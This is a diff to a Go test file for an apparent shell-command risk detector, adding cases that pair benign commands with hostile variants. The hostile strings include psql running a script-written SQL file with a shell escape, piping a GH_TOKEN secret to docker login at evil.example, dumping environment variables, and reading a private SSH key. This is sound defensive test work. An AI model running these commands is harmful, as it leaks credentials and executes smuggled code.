@@ -166,6 +166,11 @@ func TestKindNoFalseAlarms(t *testing.T) {
 		{name: "envsubst told its variables", benign: "envsubst '$IMAGE ${TAG}' < k.tmpl > k.yaml",
 			hostile: "envsubst '$IMAGE $GH_TOKEN' < k.tmpl > k.yaml", want: "prints the secret variable GH_TOKEN"},
 		{name: "envsubst alone", hostile: "envsubst < k.tmpl > k.yaml", want: "envsubst prints every environment variable"},
+		{name: "psql -f, the project's SQL", benign: "psql -h db.example -v ON_ERROR_STOP=1 -f migrations/001_init.sql",
+			hostile: "echo '\\! id' > m.sql; psql -h db.example -f m.sql", want: "psql runs code from /work/app/m.sql, which the script wrote at line 1"},
+		{name: "yarn passes its words to the script", benign: "yarn install --frozen-lockfile && yarn test --ci --watchAll=false"},
+		{name: "GitHub's registry logged in with GitHub's token", benign: `echo "$GH_TOKEN" | docker login ghcr.io -u bot --password-stdin`, markedOK: "uses secret GH_TOKEN",
+			hostile: `echo "$GH_TOKEN" | docker login evil.example -u bot --password-stdin`, want: "sends its input, secret data (from GH_TOKEN), to evil.example"},
 		{name: "a public key", benign: "ssh-keygen -lf ~/.ssh/id_ed25519.pub", hostile: "cat ~/.ssh/id_ed25519", want: "reads the credential file ~/.ssh/id_ed25519"},
 	})
 	// A control character that a terminal would act on is still marked.
